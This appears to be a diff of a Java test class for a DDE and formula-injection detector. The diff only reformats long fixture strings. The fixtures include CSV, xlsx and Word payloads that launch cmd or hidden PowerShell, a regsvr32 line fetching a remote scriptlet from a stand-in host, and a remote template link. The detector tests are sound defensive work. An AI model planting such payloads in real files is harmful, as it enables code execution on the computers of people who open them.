@@ -91,8 +91,8 @@ class DdeAnalyzerTest {
 
     @Test
     void binaryWordFieldsAreReadFromTheTextStream() {
-        String text =
-                "Hello \u0013DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"\u0014!Error\u0015 and \u0013 PAGE \u00141\u0015";
+        String text = "Hello \u0013DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k "
+                + "calc.exe\"\u0014!Error\u0015 and \u0013 PAGE \u00141\u0015";
 
         List<String> instructions = DocFieldReader.fromText(text);
 
@@ -107,7 +107,8 @@ class DdeAnalyzerTest {
                 "+cmd|' /C calc'!A0",
                 "-2+3+cmd|' /C calc'!A0",
                 "@SUM(1+1)*cmd|' /C calc'!A0",
-                "name,\"=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://x.test/a.sct scrobj.dll'!''\"",
+                "name,\"=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s "
+                        + "/n /u /i:http://x.test/a.sct scrobj.dll'!''\"",
                 "a;b;=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")")) {
             Report report = TestEngines.scanFile("export.csv", (line + "\r\n").getBytes(StandardCharsets.UTF_8));
             assertEquals(Severity.HIGH, ReportChecks.only(report, "dde.formula").severity(), line);
@@ -137,14 +138,17 @@ class DdeAnalyzerTest {
     @Test
     void anXlsxDdeLinkAndAnInlineDdeFormulaAreFound() {
         byte[] xlsx = OfficeFixtures.xlsx(
-                "<row r=\"1\"><c r=\"A1\"><f>cmd|' /c powershell -w hidden -c iex(x)'!A0</f></c><c r=\"B1\"><f>[1]!_xlbgnm.A1</f></c></row>",
+                "<row r=\"1\"><c r=\"A1\"><f>cmd|' /c powershell -w hidden -c "
+                        + "iex(x)'!A0</f></c><c r=\"B1\"><f>[1]!_xlbgnm.A1</f></c></row>",
                 Map.of("xl/externalLinks/externalLink1.xml", """
                         <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                         <externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">
-                        <ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="_xlbgnm.A1" advise="1"/></ddeItems></ddeLink>
+                        <ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="_xlbgnm.A1" \
+                        advise="1"/></ddeItems></ddeLink>
                         </externalLink>"""),
-                OfficeFixtures.workbookRels(
-                        "<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink\" Target=\"externalLinks/externalLink1.xml\"/>"));
+                OfficeFixtures.workbookRels("<Relationship Id=\"rId2\" "
+                        + "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink\" "
+                        + "Target=\"externalLinks/externalLink1.xml\"/>"));
 
         Report report = TestEngines.scanFile("book.xlsx", xlsx);
 
@@ -174,9 +178,12 @@ class DdeAnalyzerTest {
         String xml = """
                 <?xml version="1.0"?>
                 <?mso-application progid="Excel.Sheet"?>
-                <Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">
-                 <ExcelWorkbook xmlns="urn:schemas-microsoft-com:office:excel"><SupBook><Path>cmd|/c calc.exe</Path></SupBook></ExcelWorkbook>
-                 <Worksheet ss:Name="S"><Table><Row><Cell ss:Formula="=cmd|'/c calc.exe'!A1"><Data ss:Type="Error">#REF!</Data></Cell></Row></Table></Worksheet>
+                <Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" \
+                xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">
+                 <ExcelWorkbook xmlns="urn:schemas-microsoft-com:office:excel"><SupBook><Path>cmd|/c \
+                calc.exe</Path></SupBook></ExcelWorkbook>
+                 <Worksheet ss:Name="S"><Table><Row><Cell ss:Formula="=cmd|'/c calc.exe'!A1"><Data \
+                ss:Type="Error">#REF!</Data></Cell></Row></Table></Worksheet>
                 </Workbook>""";
 
         Report report = TestEngines.scanFile("sheet.xml", xml.getBytes(StandardCharsets.UTF_8));
@@ -255,11 +262,16 @@ class DdeAnalyzerTest {
                 <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                 <?mso-application progid="Word.Document"?>
                 <pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">
-                <pkg:part pkg:name="/word/_rels/settings.xml.rels" pkg:contentType="application/vnd.openxmlformats-package.relationships+xml"><pkg:xmlData>
-                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"
-                 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://192.0.2.9/t.dotm" TargetMode="External"/></Relationships>
+                <pkg:part pkg:name="/word/_rels/settings.xml.rels" \
+                pkg:contentType="application/vnd.openxmlformats-package.relationships+xml"><pkg:xmlData>
+                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship \
+                Id="rId1"
+                 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" \
+                Target="http://192.0.2.9/t.dotm" TargetMode="External"/></Relationships>
                 </pkg:xmlData></pkg:part>
-                <pkg:part pkg:name="/word/document.xml" pkg:contentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"><pkg:xmlData>
+                <pkg:part pkg:name="/word/document.xml" \
+                pkg:contentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml">\
+                <pkg:xmlData>
                 <w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>
                 <w:fldSimple w:instr=" DDE cmd &quot;/c calc&quot; "/></w:p></w:body></w:document>
                 </pkg:xmlData></pkg:part></pkg:package>""";
